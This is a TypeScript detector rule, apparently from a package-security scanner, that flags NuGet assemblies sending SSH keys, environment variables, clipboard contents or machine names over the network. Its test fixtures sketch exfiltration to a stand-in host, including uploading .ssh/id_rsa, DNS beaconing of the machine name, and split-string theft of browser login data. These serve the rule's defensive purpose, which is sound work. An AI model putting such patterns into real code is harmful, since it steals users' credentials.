import type { Detector } from "../detector.ts";
import { isSecretPath } from "../languages/il-library.ts";
import type { Call } from "../languages/il-run.ts";
import { FROM, sourcesOf, textOf } from "../languages/il-values.ts";
import { actedOf, assembliesWith, phaseOf } from "./_dotnet.ts";

const LITERALS = ["webclient", "httpclient", "webrequest", "sockets", "gethost", "smtpclient"] as const;
const SENDS =
  /^System\.Net\.(?:WebClient::(?:Upload|Download|OpenRead)|Http\.HttpClient::(?:Get|Post|Put|Send)|WebRequest::Create|Dns::GetHost(?:Entry|Addresses|ByName)|Sockets\.(?:NetworkStream::Write|Socket::Send)|Mail\.SmtpClient::Send)/;

function carried(call: Call, unasked: boolean): { readonly what: string; readonly share: number } | undefined {
  const given = call.args.slice(/::(?:Create|GetHost\w*)$/.test(call.member) ? 0 : 1);
  const from = sourcesOf(given);
  if ((from & FROM.secret) !== 0) return { what: "the content of a file with secrets", share: 1 };
  const uploaded = call.member.includes("::UploadFile")
    ? given.map(textOf).find((text) => text !== undefined && isSecretPath(text))
    : undefined;
  if (uploaded !== undefined) return { what: `the file ${uploaded.slice(0, 80)}`, share: 1 };
  if ((from & FROM.environment) !== 0) return { what: "all environment variables", share: 1 };
  if ((from & FROM.clipboard) !== 0) return { what: "the clipboard", share: 0.8 };
  if ((from & FROM.host) === 0) return undefined;
  const what = "the name of this machine or its user";
  if (/Dns::/.test(call.member))
    return { what, share: given.some((arg) => textOf(arg)?.includes(".") === true) ? 1 : 0 };
  if (given.some((arg) => (arg.from & FROM.host) !== 0 && (arg.from & FROM.parameter) !== 0))
    return { what: `${what}, and a key it was handed`, share: 1 };
  return { what, share: unasked ? 0.8 : 0.3 };
}

export const assemblySendsSecrets: Detector = {
  id: "assembly-sends-secrets",
  title: "An assembly reads secrets or facts about the machine and sends them",
  severity: "critical",
  ecosystems: ["nuget"],
  points: 5.6,
  class: "threat",
  group: "exfiltration",
  why: `What reaches a request comes from a place where browsers, wallets, SSH or cloud tools keep secrets, from the whole environment, from the
clipboard, or is the name of the machine or its user. Values are followed through fields, builders and own methods.

Telemetry sends the name of a machine; that counts fully only where nobody has called the library yet, as part of a DNS name, or together
with a password or key that was handed to it.`,
  literals: LITERALS,
  *detect(tree) {
    for (const { file, assembly } of assembliesWith(tree, LITERALS)) {
      const seen = new Set<number>();
      for (const call of actedOf(assembly).calls) {
        if (seen.size >= 5 || seen.has(call.method) || !SENDS.test(call.member)) continue;
        const phase = phaseOf(file, assembly, call);
        const found = carried(call, phase !== "call");
        if (!found) continue;
        seen.add(call.method);
        const says = `${call.member.split(".").at(-1)} is given ${found.what}`;
        yield { path: file.path, line: null, phase, share: found.share, says };
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "nuget",
        files: {
          "lib/net6.0/Demo.dll":
            'assembly Demo\nmethod Demo.A::Go calls new System.Net.WebClient::.ctor~, "https://example.invalid/", #40, System.Environment::GetFolderPath/1>, ".ssh/id_rsa", System.IO.Path::Combine/2>, System.Net.WebClient::UploadFile/2~>',
        },
      },
      {
        ecosystem: "nuget",
        files: {
          "lib/net6.0/Demo.dll":
            'assembly Demo\nmethod Demo.A::Go calls new System.Net.WebClient::.ctor~, "https://example.invalid/", System.Environment::GetEnvironmentVariables>, System.Net.WebClient::UploadString/2~>',
        },
      },
    ],
    passes: [
      {
        ecosystem: "nuget",
        files: {
          "lib/net6.0/Demo.dll":
            'assembly Demo\nmethod Demo.A::Go calls new System.Net.WebClient::.ctor~, "https://example.invalid/", "report.txt", System.Net.WebClient::UploadFile/2~>\nmethod Demo.A::Name calls System.Environment::get_MachineName>',
        },
      },
    ],
    evasions: [
      {
        ecosystem: "nuget",
        files: {
          "lib/net6.0/Demo.dll":
            'assembly Demo\nmethod <Module>::.cctor calls System.Environment::get_MachineName>, ".a.example.invalid", System.String::Concat/2>, System.Net.Dns::GetHostEntry/1>',
        },
      },
      {
        ecosystem: "nuget",
        files: {
          "lib/net6.0/Demo.dll":
            'assembly Demo\nmethod Demo.A::Go calls new System.Net.WebClient::.ctor~, "https://example.invalid/", "\\\\Lo", "gin Data", System.String::Concat/2>, System.IO.File::ReadAllBytes/1>, System.Convert::ToBase64String/1>, System.Net.WebClient::UploadString/2~>',
        },
      },
    ],
  },
};
